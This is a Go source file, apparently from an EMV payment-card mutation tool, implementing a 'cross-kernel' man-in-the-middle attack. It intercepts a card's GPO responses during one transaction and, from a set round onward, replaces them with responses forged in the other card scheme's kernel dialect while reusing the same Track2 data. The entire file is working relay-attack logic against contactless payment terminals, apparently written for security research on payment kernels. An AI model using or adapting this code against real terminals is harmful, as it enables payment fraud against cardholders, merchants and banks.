package attack

import (
	"context"
	"fmt"

	"github.com/gregLibert/emv-mutator/pkg/emv"
)

// DefaultTriggerRound is the GPO round from which the other dialect is served.
const DefaultTriggerRound = 2

// CrossKernel answers successive GPO exchanges of one transaction in two
// kernel dialects. Rounds before TriggerRound get the card's own scheme
// (Transaction.Scheme, else Dialect), later rounds get the other one. Both builds carry the same Track2, so the terminal sees
// one account announcing two different authentication methods.
type CrossKernel struct {
	Dialect      emv.Dialect
	Profiles     map[emv.Dialect]emv.DialectProfile
	TriggerRound int
	// Track2 is used when the intercepted response carries none.
	Track2 []byte
	// AFLEntries is the AFL entry count assumed for compact responses.
	AFLEntries int
}

// NewCrossKernel validates the dialect name and applies defaults.
func NewCrossKernel(dialect string) (*CrossKernel, error) {
	d, err := emv.ParseDialect(dialect)
	if err != nil {
		return nil, err
	}
	return &CrossKernel{
		Dialect:      d,
		Profiles:     emv.DefaultProfiles(),
		TriggerRound: DefaultTriggerRound,
		Track2:       emv.DefaultTrack2,
	}, nil
}

// DialectFor returns the dialect served on the given GPO round when the
// card scheme is unknown.
func (p *CrossKernel) DialectFor(round int) emv.Dialect {
	return dialectFor(p.Dialect, p.TriggerRound, round)
}

// startDialect is the scheme learned from SELECT, else the configured one.
func (p *CrossKernel) startDialect(tx *Transaction) emv.Dialect {
	if d, err := emv.ParseDialect(string(tx.Scheme)); err == nil {
		return d
	}
	return p.Dialect
}

func dialectFor(start emv.Dialect, trigger, round int) emv.Dialect {
	if trigger <= 0 {
		trigger = DefaultTriggerRound
	}
	if round >= trigger {
		return start.Other()
	}
	return start
}

func (p *CrossKernel) Process(_ context.Context, tx *Transaction, apdu []byte, dir Direction) ([]byte, error) {
	if err := requireDirection(TypeCrossKernel, dir, CardToTerminal); err != nil {
		return nil, err
	}
	if tx == nil {
		return nil, fmt.Errorf("cross kernel: %w", ErrNoTransaction)
	}
	if _, err := emv.ParseDialect(string(p.Dialect)); err != nil {
		return nil, err
	}

	// The intercepted response only contributes its layout and Track2.
	in, parseErr := parseGPO(apdu, p.AFLEntries)
	format := emv.DetectGPOFormat(apdu)
	if parseErr == nil {
		format = in.Format
	}

	if tx.Track2 == nil {
		switch {
		case parseErr == nil && len(in.Track2) > 0:
			tx.Track2 = in.Track2
		case len(p.Track2) > 0:
			tx.Track2 = append([]byte(nil), p.Track2...)
		default:
			tx.Track2 = append([]byte(nil), emv.DefaultTrack2...)
		}
	}

	tx.GPORound++
	d := dialectFor(p.startDialect(tx), p.TriggerRound, tx.GPORound)

	profile, ok := p.profile(d)
	if !ok {
		return nil, fmt.Errorf("cross kernel: %w: no profile for %q", ErrUnsupportedDialect, d)
	}

	out, err := emv.BuildDialectGPO(profile, tx.Track2, format).Bytes()
	if err != nil {
		return nil, fmt.Errorf("cross kernel: %w", err)
	}
	return out, nil
}

func (p *CrossKernel) profile(d emv.Dialect) (emv.DialectProfile, bool) {
	if prof, ok := p.Profiles[d]; ok {
		return prof, true
	}
	prof, ok := emv.DefaultProfiles()[d]
	return prof, ok
}
